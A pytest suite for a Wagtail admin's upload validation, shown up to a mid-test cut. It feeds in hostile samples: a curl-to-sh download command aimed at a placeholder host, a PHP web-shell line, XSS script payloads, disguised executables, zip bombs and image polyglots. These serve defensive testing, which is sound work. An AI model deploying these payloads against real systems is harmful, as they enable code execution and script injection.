"""Uploads through the admin: hostile files are refused with a Czech message and nothing is
stored (no row, no file in media); valid files of every allowed type go through; documents are
served as attachments. Every file is generated here."""

import functools
import hashlib
import html
import io
import struct
import zipfile
import zlib
from pathlib import Path

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings

from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, UploadedFile

import pytest
from PIL import Image as PILImage
from PIL import PngImagePlugin

from workflows.roles import WORKING_GROUP_PREFIX

Document = get_document_model()
Image = get_image_model()

# --- Generated files ---------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(44)
    + struct.pack("<I", 0x80)
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + bytes(23)
    + b"PE\x00\x00\x4c\x01"
    + bytes(200)
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<data><row>1</row></data>\n'
XHTML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>\n'
)


def image_bytes(pillow_format, size=(40, 30), mode="RGB"):
    buffer = io.BytesIO()
    PILImage.new(mode, size, (200, 30, 60)).save(buffer, pillow_format)
    return buffer.getvalue()


def camera_jpeg():
    """A progressive JPEG with EXIF and a thumbnail (itself a JPEG) inside, as cameras write."""
    thumbnail = image_bytes("JPEG", (16, 12))
    exif = PILImage.Exif()
    exif[0x010F] = "Fotoaparát"
    buffer = io.BytesIO()
    PILImage.effect_noise((320, 240), 40).convert("RGB").save(
        buffer, "JPEG", progressive=True, exif=exif.tobytes() + thumbnail, quality=80
    )
    return buffer.getvalue()


def pdf_bytes():
    buffer = io.BytesIO()
    PILImage.new("RGB", (60, 40), "white").save(buffer, "PDF", title="Zápis ze schůze")
    return buffer.getvalue()


def zip_bytes(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries:
            if name == "mimetype":
                archive.writestr(name, content, compress_type=zipfile.ZIP_STORED)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{type}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{part}" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Zápis z jednání pracovní skupiny</w:t></w:r></w:p></w:body>"
    "</w:document>"
)
WORKBOOK_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="Rozpočet" sheetId="1"/></sheets></workbook>'
)


def docx_entries(main_type=DOCX_MAIN, body=DOCUMENT_XML):
    return [
        ("[Content_Types].xml", CONTENT_TYPES.format(part="word/document.xml", type=main_type)),
        ("_rels/.rels", RELS.format(part="word/document.xml")),
        ("word/document.xml", body),
    ]


def xlsx_entries():
    return [
        ("[Content_Types].xml", CONTENT_TYPES.format(part="xl/workbook.xml", type=XLSX_MAIN)),
        ("_rels/.rels", RELS.format(part="xl/workbook.xml")),
        ("xl/workbook.xml", WORKBOOK_XML),
        ("xl/worksheets/sheet1.xml", "<worksheet/>"),
    ]


def odf_entries(kind):
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        "</manifest:manifest>"
    )
    return [
        ("mimetype", kind),
        ("META-INF/manifest.xml", manifest),
        ("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content/>'),
    ]


ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


@functools.cache
def zip_bomb_docx():
    """200 MB of zeros, about 200 kB compressed, behind a docx's first entries (built once, when
    a test asks for it: it takes a few seconds)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_entries():
            archive.writestr(name, content)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as entry:
            block = bytes(1024 * 1024)
            for _ in range(200):
                entry.write(block)
    return buffer.getvalue()


def central_header(data, name):
    """Where `name`'s 46-byte central directory header starts in the zip."""
    position = data.index(b"PK\x01\x02")
    while True:
        name_length = int.from_bytes(data[position + 28 : position + 30], "little")
        if data[position + 46 : position + 46 + name_length] == name.encode():
            return position
        position = data.index(b"PK\x01\x02", position + 46)


def declaring_size(data, name, size):
    """The zip with `name`'s uncompressed size in the central directory replaced by `size`."""
    position = central_header(data, name)
    size_field = slice(position + 24, position + 28)
    return data[: size_field.start] + struct.pack("<I", size) + data[size_field.stop :]


def with_entry_header(data, name, flag=None, method=None):
    """The zip with `name`'s general-purpose flags or compression method in the central directory
    replaced (zipfile reads both from there when it opens the entry)."""
    position = central_header(data, name)
    header = bytearray(data[position : position + 46])
    if flag is not None:
        header[8:10] = struct.pack("<H", flag)
    if method is not None:
        header[10:12] = struct.pack("<H", method)
    return data[:position] + bytes(header) + data[position + 46 :]


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width, height):
    """A valid PNG whose header declares a huge image over a few bytes of data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(bytes(width // 8 + 1) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def truncated(data):
    return data[: len(data) * 2 // 3]


PNG = image_bytes("PNG")
JPEG = image_bytes("JPEG")
WEBP = image_bytes("WEBP")
PDF = pdf_bytes()

# --- Helpers -----------------------------------------------------------------------------------

MEDIA = Path(settings.MEDIA_ROOT)


def media_files():
    return {path for path in MEDIA.rglob("*") if path.is_file()} if MEDIA.exists() else set()


@pytest.fixture
def no_leftovers():
    """Files a test stores in media are removed afterwards, as its rows are rolled back."""
    before = media_files()
    yield
    for path in media_files() - before:
        path.unlink()


@pytest.fixture
def manager_client(working_group, make_user):
    """A working-group manager: may add and choose documents and images, nothing more."""
    client = Client()
    client.force_login(make_user("ps.seniori", WORKING_GROUP_PREFIX + working_group.title))
    return client


@pytest.fixture
def root_collection(db):
    return Collection.get_first_root_node()


def upload(name, content):
    return SimpleUploadedFile(name, content)


def form_errors(response, field="file"):
    return " ".join(response.context["form"].errors.get(field, []))


def post_add(client, kind, collection, name, content):
    """The single add view; returns the file field's errors (empty on success)."""
    response = client.post(
        f"/admin/{kind}/add/",
        {"title": "Nahraný soubor", "collection": collection.pk, "file": upload(name, content)},
    )
    if response.status_code == 302:
        return ""
    assert response.status_code == 200
    return form_errors(response)


def post_multiple(client, kind, collection, name, content):
    """The multiple uploader's AJAX endpoint; returns its error message (empty on success)."""
    response = client.post(
        f"/admin/{kind}/multiple/add/",
        {"files[]": upload(name, content), "collection": collection.pk},
        headers={"X-Requested-With": "XMLHttpRequest"},
    )
    assert response.status_code == 200
    data = response.json()
    return "" if data["success"] else data["error_message"]


def post_chooser(client, kind, collection, name, content):
    """The chooser's upload tab; returns the re-shown form's text (empty on success)."""
    prefix = "document-chooser-upload" if kind == "documents" else "image-chooser-upload"
    response = client.post(
        f"/admin/{kind}/chooser/create/",
        {
            f"{prefix}-title": "Nahraný soubor",
            f"{prefix}-collection": collection.pk,
            f"{prefix}-file": upload(name, content),
        },
    )
    assert response.status_code == 200
    data = response.json()
    return "" if data["step"] != "reshow_creation_form" else html.unescape(data["htmlFragment"])


# --- Hostile documents -------------------------------------------------------------------------

PROGRAM_LINUX = "jeho obsah odpovídá spustitelnému programu pro Linux"
PROGRAM_WINDOWS = "jeho obsah odpovídá spustitelnému programu pro Windows"
BOMB = "Může jít o takzvanou zip bombu"

HOSTILE_DOCUMENTS = {
    "elf-as-pdf": ("program.pdf", ELF, "„program.pdf“ není platný PDF dokument: " + PROGRAM_LINUX),
    "windows-exe-as-pdf": ("faktura.pdf", PE, "není platný PDF dokument: " + PROGRAM_WINDOWS),
    "elf-as-docx": ("zprava.docx", ELF, "není platný dokument Word (DOCX): " + PROGRAM_LINUX),
    "windows-exe-as-xlsx": (
        "rozpocet.xlsx",
        PE,
        "není platný sešit Excel (XLSX): " + PROGRAM_WINDOWS,
    ),
    "windows-exe-as-txt": ("cti-mne.txt", PE, "není platný textový soubor: " + PROGRAM_WINDOWS),
    "windows-exe-as-jpg": ("foto.jpg", PE, "není platný obrázek JPEG: " + PROGRAM_WINDOWS),
    "shell-script-as-pdf": ("skript.pdf", SHELL_SCRIPT, "odpovídá spustitelnému skriptu"),
    "shell-script-as-txt": ("poznamky.txt", SHELL_SCRIPT, "odpovídá spustitelnému skriptu"),
    "pdf-with-html-inside": (
        "letak.pdf",
        PDF.replace(b"%%EOF", b"<html><script>alert(1)</script></html>\n%%EOF"),
        "není platný PDF dokument: obsahuje kód webové stránky („<html>“)",
    ),
    "pdf-starting-with-html": (
        "navod.pdf",
        b"<html><body>" + PDF + b"</body></html>",
        "není platný PDF dokument: jeho obsah odpovídá webové stránce (HTML)",
    ),
    "html-as-pdf": ("stranka.pdf", HTML, "odpovídá webové stránce (HTML)"),
    "html-as-txt": ("stranka.txt", HTML, "není platný textový soubor: jeho obsah odpovídá webové"),
    "html-as-csv": ("tabulka.csv", HTML, "není platný soubor CSV: jeho obsah odpovídá webové"),
    "html-inside-txt": (
        "zprava.txt",
        b"Dobry den,\nposilam odkaz <script src=//example.invalid/x.js></script>\n",
        "obsahuje značku HTML, SVG nebo XML („<script“)",
    ),
    "svg-with-script-as-svg": ("logo.svg", SVG, "má nepovolenou příponu .svg"),
    "svg-with-script-as-png": (
        "logo.png",
        SVG,
        "není platný obrázek PNG: jeho obsah odpovídá obrázku SVG",
    ),
    "svg-with-script-as-jpg": ("logo.jpg", SVG, "jeho obsah odpovídá obrázku SVG"),
    "svg-with-script-as-txt": ("logo.txt", SVG, "jeho obsah odpovídá obrázku SVG"),
    "xml-as-txt": ("data.txt", XML, "jeho obsah odpovídá dokumentu XML"),
    "xhtml-as-csv": ("data.csv", XHTML, "jeho obsah odpovídá webové stránce (HTML)"),
    "xml-as-pdf": ("data.pdf", XML, "není platný PDF dokument: jeho obsah odpovídá dokumentu XML"),
    "zip-bomb-as-docx": (
        "vyrocni-zprava.docx",
        zip_bomb_docx,
        "byl odmítnut: je podezřele silně komprimovaný (1023 : 1, nejvýše 100 : 1). " + BOMB,
    ),
    "zip-declaring-300-mb-as-xlsx": (
        "tabulka.xlsx",
        declaring_size(zip_bytes(xlsx_entries()), "xl/worksheets/sheet1.xml", 300 * 1024**2),
        "po rozbalení by měl 300,0\xa0MB, nejvýše 250,0\xa0MB. " + BOMB,
    ),
    "zip-unpacking-beyond-its-declared-size-as-docx": (
        "zapis.docx",
        declaring_size(zip_bytes(docx_entries()), "word/document.xml", 10),
        "není platný dokument Word (DOCX): archiv je poškozený",
    ),
    "too-many-entries-as-xlsx": (
        "tabulka.xlsx",
        zip_bytes(xlsx_entries() + [(f"xl/media/{n}.bin", b"") for n in range(1000)]),
        "obsahuje příliš mnoho položek (1004, nejvýše 1000)",
    ),
    "plain-zip-as-docx": (
        "archiv.docx",
        zip_bytes([("dopis.txt", "Dobrý den"), ("program.exe", PE)]),
        "není platný dokument Word (DOCX): je to archiv ZIP bez povinných částí",
    ),
    "encrypted-entry-as-docx": (
        "tajne.docx",
        with_entry_header(zip_bytes(docx_entries()), "word/document.xml", flag=0x1),
        "není platný dokument Word (DOCX): archiv je zašifrovaný nebo používá nepodporovanou "
        "kompresi",
    ),
    "unsupported-compression-as-xlsx": (
        "tabulka.xlsx",
        # 99: WinZip AES, which zipfile cannot unpack.
        with_entry_header(zip_bytes(xlsx_entries()), "xl/workbook.xml", method=99),
        "není platný sešit Excel (XLSX): archiv je zašifrovaný nebo používá nepodporovanou "
        "kompresi",
    ),
    "xlsx-as-docx": ("zapis.docx", zip_bytes(xlsx_entries()), "odpovídá sešitu Excel (XLSX)"),
    "odt-without-mimetype": (
        "zapis.odt",
        zip_bytes(odf_entries(ODT)[1:]),
        "není platný dokument OpenDocument (ODT): je to archiv ZIP bez povinných částí „mimetype“",
    ),
    "docx-with-vba-macros": (
        "makra.docx",
        zip_bytes(docx_entries() + [("word/vbaProject.bin", PE)]),
        "obsahuje makra, která nejsou povolena",
    ),
    "docm-renamed-docx": (
        "makra2.docx",
        zip_bytes(docx_entries(main_type=DOCM_MAIN)),
        "obsahuje makra, která nejsou povolena",
    ),
    "ods-with-basic-macros": (
        "tabulka.ods",
        zip_bytes(odf_entries(ODS) + [("Basic/Standard/Module1.xml", "<script:module/>")]),
        "obsahuje makra",
    ),
    "corrupted-docx": (
        "poskozeny.docx",
        zip_bytes(docx_entries())[:-40],
        "není platný dokument Word (DOCX): archiv je poškozený",
    ),
    "truncated-png": ("graf.png", truncated(PNG), "obrázek je poškozený nebo neúplný"),
    "png-followed-by-html": (
        "graf.png",
        PNG + HTML,
        "za koncem obrázku jsou připojena další data",
    ),
    "jpg-followed-by-zip-gifar": (
        "foto.jpg",
        JPEG + zip_bytes([("Exploit.class", PE)]),
        "za koncem obrázku jsou připojena další data",
    ),
    "decompression-bomb-png": (
        "mapa.png",
        png_header_only(50000, 50000),
        "„mapa.png“ není platný obrázek PNG: má příliš mnoho pixelů.",
    ),
    "too-many-pixels-png": (
        "mapa.png",
        png_header_only(8000, 6000),
        "má příliš mnoho pixelů (48000000, nejvýše 40000000)",
    ),
    "zero-bytes": ("prazdny.pdf", b"", "Odeslaný soubor je prázdný."),
    "no-extension": ("README", b"Dobry den", "„README“ nemá příponu. Povolené typy dokumentů: PDF"),
    "double-extension": ("report.pdf.exe", PE, "„report.pdf.exe“ má nepovolenou příponu .exe"),
    "php": ("shell.php", b"<?php system($_GET['c']); ?>", "má nepovolenou příponu .php"),
    "javascript": ("app.js", b"alert(document.cookie)", "má nepovolenou příponu .js"),
    "exe": ("setup.exe", PE, "má nepovolenou příponu .exe"),
    "html": ("index.html", HTML, "má nepovolenou příponu .html"),
    "utf16-text": (
        "utf16.txt",
        "Zápis z jednání".encode("utf-16"),
        "není platný textový soubor: je v kódování UTF-16",
    ),
    "txt-with-nul-bytes": ("data.txt", b"abc\x00def\n", "obsahuje nulové bajty"),
    "csv-starting-with-script": (
        "seznam.csv",
        b"  <script>alert(1)</script>;Jan;Novak\n",
        "není platný soubor CSV: jeho obsah odpovídá webové stránce (HTML)",
    ),
    "binary-as-csv": ("data.csv", bytes(range(1, 32)) * 10, "obsahuje řídicí znaky"),
}


@pytest.mark.parametrize(
    ("name", "content", "message"),
    HOSTILE_DOCUMENTS.values(),
    ids=HOSTILE_DOCUMENTS.keys(),
)
@pytest.mark.parametrize("route", ["add-as-administrator", "multiple-as-group-manager"])
def test_hostile_document_is_refused_and_nothing_is_stored(
    route, name, content, message, admin_client, manager_client, root_collection, no_leftovers
):
    content = content() if callable(content) else content
    documents, uploads, files = (
        Document.objects.count(),
        UploadedFile.objects.count(),
        media_files(),
    )
    if route == "add-as-administrator":
        error = post_add(admin_client, "documents", root_collection, name, content)
    else:
        error = post_multiple(manager_client, "documents", root_collection, name, content)
    assert message in error
    assert Document.objects.count() == documents
    assert UploadedFile.objects.count() == uploads
    assert media_files() == files


# --- Hostile images ----------------------------------------------------------------------------

HOSTILE_IMAGES = {
    "svg-with-script-as-svg": ("logo.svg", SVG, "jiné typy (například SVG nebo GIF) nejsou"),
    "svg-with-script-as-png": ("logo.png", SVG, "Soubor s příponou .png není obrázek tohoto"),
    "svg-with-script-as-jpg": ("logo.jpg", SVG, "Soubor s příponou .jpeg není obrázek tohoto"),
    "html-as-png": ("stranka.png", HTML, "Soubor s příponou .png není obrázek tohoto formátu"),
    "text-as-png": ("stranka.png", b"Dobry den", "Soubor není obrázek ve formátu JPG, JPEG, PNG"),
    "windows-exe-as-jpg": ("foto.jpg", PE, "Soubor není obrázek ve formátu"),
    "elf-as-webp": ("foto.webp", ELF, "Soubor není obrázek ve formátu"),
    "gif": ("animace.gif", image_bytes("GIF"), "jiné typy (například SVG nebo GIF) nejsou"),
    "png-renamed-jpg": ("foto.jpg", PNG, "Soubor s příponou .jpeg není obrázek tohoto formátu"),
    "png-followed-by-html": ("graf.png", PNG + HTML, "za koncem obrázku jsou připojena další"),
    "jpg-followed-by-zip-gifar": (
        "foto.jpg",
        JPEG + zip_bytes([("Exploit.class", PE)]),
        "„foto.jpg“ není platný obrázek JPEG: za koncem obrázku jsou připojena další data",
    ),
    "webp-followed-by-html": ("foto.webp", WEBP + HTML, "za koncem obrázku jsou připojena"),
    # Wagtail's field refuses it, or (once WeasyPrint is imported, which lets Pillow load
    # truncated images process-wide) the end-of-image check does: the same words either way.
    "truncated-png": ("graf.png", truncated(PNG), "brázek je poškozený nebo neúplný"),
    "truncated-jpg": ("foto.jpg", truncated(JPEG), "brázek je poškozený nebo neúplný"),
    "decompression-bomb-png": (
        "mapa.png",
        png_header_only(50000, 50000),
        "Obrázek má příliš mnoho pixelů (neznámý počet)",
    ),
    "too-many-pixels-png": (
        "mapa.png",
        png_header_only(8000, 6000),
        "Obrázek má příliš mnoho pixelů (48000000), nejvýše 40000000",
    ),
    "zero-bytes": ("prazdny.png", b"", "Odeslaný soubor je prázdný."),
    "php": ("shell.php", b"<?php system($_GET['c']); ?>", "Soubor není obrázek"),
    "no-extension": ("obrazek", PNG, "jiné typy (například SVG nebo GIF) nejsou povoleny"),
}


@pytest.mark.parametrize(
    ("name", "content", "message"), HOSTILE_IMAGES.values(), ids=HOSTILE_IMAGES.keys()
)
@pytest.mark.parametrize("route", ["add-as-administrator", "multiple-as-group-manager"])
def test_hostile_image_is_refused_and_nothing_is_stored(
    route, name, content, message, admin_client, manager_client, root_collection, no_leftovers
):
    images, uploads, files = Image.objects.count(), UploadedFile.objects.count(), media_files()
    if route == "add-as-administrator":
        error = post_add(admin_client, "images", root_collection, name, content)
    else:
        error = post_multiple(manager_client, "images", root_collection, name, content)
    assert message in error
    assert Image.objects.count() == images
    assert UploadedFile.objects.count() == uploads
    assert media_files() == files


# --- Size limits -------------------------------------------------------------------------------


@override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1000)
def test_document_over_the_configured_size_is_refused(admin_client, root_collection, no_leftovers):
    files = media_files()
    error = post_add(admin_client, "documents", root_collection, "velky.txt", b"a" * 1001)
    assert error == "Soubor je příliš velký (1001\xa0bajtů), nejvýše 1000\xa0bajtů."
    assert not Document.objects.exists()
    assert media_files() == files


def test_document_just_over_twenty_megabytes_is_refused(
    manager_client, root_collection, no_leftovers
):
    files = media_files()
    content = PDF + bytes(settings.WAGTAILDOCS_MAX_UPLOAD_SIZE + 512 * 1024 - len(PDF))
    error = post_multiple(manager_client, "documents", root_collection, "plan.pdf", content)
    assert error == "Soubor je příliš velký (20,5\xa0MB), nejvýše 20,0\xa0MB."
    assert not Document.objects.exists()
    assert media_files() == files


@override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=1000)
def test_image_over_the_configured_size_is_refused(manager_client, root_collection, no_leftovers):
    files = media_files()
    PILImage.effect_noise((300, 300), 50).save(buffer := io.BytesIO(), "PNG")
    content = buffer.getvalue()
    assert len(content) > 1000
    error = post_add(manager_client, "images", root_collection, "sum.png", content)
    assert error.startswith("Soubor je příliš velký (")
    assert error.endswith("nejvýše 1000\xa0bajtů.")
    assert not Image.objects.exists()
    assert media_files() == files


# --- Other upload paths: chooser, edit (replacing the file) ------------------------------------


@pytest.mark.parametrize(
    ("kind", "name", "content", "message"),
    [
        ("documents", "faktura.pdf", PE, PROGRAM_WINDOWS),
        ("documents", "logo.txt", SVG, "odpovídá obrázku SVG"),
        ("images", "logo.png", SVG, "Soubor s příponou .png není obrázek tohoto"),
        ("images", "graf.png", PNG + HTML, "za koncem obrázku jsou připojena další data"),
    ],
    ids=["exe-document", "svg-document", "svg-image", "png-with-html-image"],
)
def test_chooser_upload_refuses_hostile_files(
    kind, name, content, message, manager_client, root_collection, no_leftovers
):
    model = Document if kind == "documents" else Image
    files = media_files()
    assert message in post_chooser(manager_client, kind, root_collection, name, content)
    assert not model.objects.exists()
    assert media_files() == files


def test_replacing_a_document_file_refuses_hostile_content(
    admin_client, root_collection, no_leftovers
):
    assert post_add(admin_client, "documents", root_collection, "zapis.pdf", PDF) == ""
    document = Document.objects.get()
    stored, files = document.file.name, media_files()

    response = admin_client.post(
        f"/admin/documents/edit/{document.pk}/",
        {"title": "Zápis", "collection": root_collection.pk, "file": upload("zapis.pdf", ELF)},
    )
    assert PROGRAM_LINUX in form_errors(response)
    document.refresh_from_db()
    assert document.file.name == stored
    assert document.file.read() == PDF
    assert media_files() == files


def test_replacing_an_image_file_refuses_hostile_content(
    admin_client, root_collection, no_leftovers
):
    assert post_add(admin_client, "images", root_collection, "foto.jpg", JPEG) == ""
    image = Image.objects.get()
    admin_client.get(f"/admin/images/{image.pk}/")  # renders the preview's rendition
    stored, files = image.file.name, media_files()

    response = admin_client.post(
        f"/admin/images/{image.pk}/",
        {"title": "Foto", "collection": root_collection.pk, "file": upload("foto.png", SVG)},
    )
    assert "Soubor s příponou .png není obrázek tohoto formátu" in form_errors(response)
    image.refresh_from_db()
    assert image.file.name == stored
    assert media_files() == files


def test_editing_a_document_title_keeps_its_file(admin_client, root_collection, no_leftovers):
    assert post_add(admin_client, "documents", root_collection, "zapis.pdf", PDF) == ""
    document = Document.objects.get()
    response = admin_client.post(
        f"/admin/documents/edit/{document.pk}/",
        {"title": "Zápis z 10. 3.", "collection": root_collection.pk},
    )
    assert response.status_code == 302
    document.refresh_from_db()
    assert document.title == "Zápis z 10. 3."


# --- Valid files -------------------------------------------------------------------------------

VALID_DOCUMENTS = {
    "pdf": ("zapis.pdf", PDF),
    "docx": ("zapis.docx", zip_bytes(docx_entries())),
    "xlsx": ("rozpocet.xlsx", zip_bytes(xlsx_entries())),
    "odt": ("zapis.odt", zip_bytes(odf_entries(ODT))),
    "ods": ("rozpocet.ods", zip_bytes(odf_entries(ODS))),
    "txt-utf8": ("poznamky.txt", "Příliš žluťoučký kůň úpěl ďábelské ódy.\n".encode()),
    "txt-cp1250": ("poznamky-1250.txt", "Pečovatelská služba, Kelč\r\n".encode("cp1250")),
    "csv": (
        "sluzby.csv",
        "název;obec;kapacita\nDenní stacionář;Valašské Meziříčí;12\n".encode("utf-8-sig"),
    ),
    "txt-starting-like-a-program": ("zkratky.txt", "MZ ČR – ministerstvo zdravotnictví\n".encode()),
    "jpg": ("foto.jpg", JPEG),
    "jpg-progressive-with-exif": ("foto-exif.jpg", camera_jpeg()),
    "png": ("graf.png", PNG),
}


@pytest.mark.parametrize(("name", "content"), VALID_DOCUMENTS.values(), ids=VALID_DOCUMENTS.keys())
@pytest.mark.parametrize("route", ["add-as-administrator", "multiple-as-group-manager"])
def test_valid_document_is_stored(
    route, name, content, admin_client, manager_client, root_collection, no_leftovers
):
    if route == "add-as-administrator":
        error = post_add(admin_client, "documents", root_collection, name, content)
    else:
        error = post_multiple(manager_client, "documents", root_collection, name, content)
    assert error == ""
    stored = Document.objects.get().file.read()
    if name.endswith((".jpg", ".png")):  # rewritten without metadata (tests below)
        with PILImage.open(io.BytesIO(stored)) as image, PILImage.open(io.BytesIO(content)) as sent:
            assert (image.format, image.size) == (sent.format, sent.size)
    else:
        assert stored == content


VALID_IMAGES = {"jpg": ("foto.jpg", JPEG), "png": ("graf.png", PNG), "webp": ("foto.webp", WEBP)}


@pytest.mark.parametrize(("name", "content"), VALID_IMAGES.values(), ids=VALID_IMAGES.keys())
@pytest.mark.parametrize("route", ["add-as-administrator", "multiple-as-group-manager"])
def test_valid_image_is_stored(
    route, name, content, admin_client, manager_client, root_collection, no_leftovers
):
    if route == "add-as-administrator":
        error = post_add(admin_client, "images", root_collection, name, content)
    else:
        error = post_multiple(manager_client, "images", root_collection, name, content)
    assert error == ""
    stored = Image.objects.get().file.read()
    with PILImage.open(io.BytesIO(stored)) as image, PILImage.open(io.BytesIO(content)) as sent:
        assert (image.format, image.size) == (sent.format, sent.size)


def test_chooser_upload_accepts_a_valid_document(manager_client, root_collection, no_leftovers):
    assert (
        post_chooser(
            manager_client, "documents", root_collection, "zapis.odt", VALID_DOCUMENTS["odt"][1]
        )
        == ""
    )
    assert Document.objects.get().file.read() == VALID_DOCUMENTS["odt"][1]


# --- Metadata: no EXIF, GPS, XMP or comments in stored files (issue 20) ------------------------

RED, BLUE = (220, 20, 20), (20, 20, 220)
# What a phone writes about a photo, each as a text that must not reach a stored file.
CAMERA, PLACE, AUTHOR, NOTE = "TelefonXY", "GPSLatitude 49.47N", "Jana Nováková", "Chata u Kelče"
XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf'
    '-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    f'exif:GPSLatitude="{PLACE}" exif:Artist="{AUTHOR}"/></rdf:RDF></x:xmpmeta>'
).encode()
SECRETS = [CAMERA.encode(), PLACE.encode(), AUTHOR.encode(), NOTE.encode(), b"ns.adobe.com"]


def phone_photo(pillow_format):
    """Landscape pixels (left red, right blue) that the phone stored sideways: EXIF orientation
    6 says "turn 90° clockwise to show", so the shown photo is portrait with red on top. With a
    GPS position, the camera's make, XMP and a comment (PNG: text chunks)."""
    image = PILImage.new("RGB", (60, 30), BLUE)
    image.paste(RED, (0, 0, 30, 30))
    exif = PILImage.Exif()
    exif[0x0112] = 6  # Orientation
    exif[0x010F] = CAMERA  # Make
    exif[0x013B] = AUTHOR  # Artist
    exif[0x8825] = {1: "N", 2: (49.0, 28.0, 12.0), 3: "E", 4: (17.0, 58.0, 3.0)}  # GPS IFD
    buffer = io.BytesIO()
    if pillow_format == "PNG":
        text = PngImagePlugin.PngInfo()
        text.add_text("Comment", NOTE)
        text.add_itxt("XML:com.adobe.xmp", XMP.decode())
        image.save(buffer, "PNG", exif=exif.tobytes(), pnginfo=text)
    elif pillow_format == "JPEG":
        image.save(buffer, "JPEG", exif=exif.tobytes(), xmp=XMP, comment=NOTE, quality=95)
    else:
        image.save(buffer, "WEBP", exif=exif.tobytes(), xmp=XMP, quality=95)
    data = buffer.getvalue()
    assert all(secret in data for secret in SECRETS[:2]), "the test photo carries them"
    return data


def assert_clean_and_upright(data, size=(30, 60)):
    """No metadata at all, and the pixels turned as the orientation tag said."""
    assert not any(secret in data for secret in SECRETS), "metadata left in the file"
    with PILImage.open(io.BytesIO(data)) as image:
        assert not image.getexif(), "EXIF (and so GPS and orientation) left"
        assert not {"exif", "xmp", "comment", "Comment", "XML:com.adobe.xmp"} & image.info.keys()
        assert image.size == size, "the orientation is applied to the pixels"
        rgb = image.convert("RGB")
        top, bottom = rgb.getpixel((size[0] // 2, 2)), rgb.getpixel((size[0] // 2, size[1] - 3))
    assert top[0] > 150 and top[2] < 100, f"red on top, not {top}"
    assert bottom[2] > 150 and bottom[0] < 100, f"blue at the bottom, not {bottom}"


def assert_stored_consistently(item, data):
    """The row describes the stored (cleaned) file: size, hash, dimensions."""
    assert item.file_size == len(data)
    assert item.file_hash == hashlib.sha1(data).hexdigest()  # noqa: S324 -- Wagtail's own hash
    if hasattr(item, "width"):
        assert (item.width, item.height) == (30, 60)


def replace_file(client, collection, name, content):
    """Replacing an image's file in its edit view; returns the image."""
    assert post_add(client, "images", collection, "puvodni.png", PNG) == ""
    image = Image.objects.get()
    response = client.post(
        f"/admin/images/{image.pk}/",
        {"title": "Foto", "collection": collection.pk, "file": upload(name, content)},
    )
    assert response.status_code == 302, form_errors(response)
    return image


@pytest.mark.parametrize("route", ["add", "add-from-disk", "multiple", "replace", "chooser"])
def test_a_phone_photo_is_stored_without_metadata_and_upright_on_every_upload_path(
    route, admin_client, manager_client, root_collection, no_leftovers, settings
):
    photo = phone_photo("JPEG")
    if route == "add-from-disk":
        # A large upload is a temporary file, which the storage moves instead of copying.
        settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 100
        assert post_add(admin_client, "images", root_collection, "chata.jpg", photo) == ""
    elif route == "add":
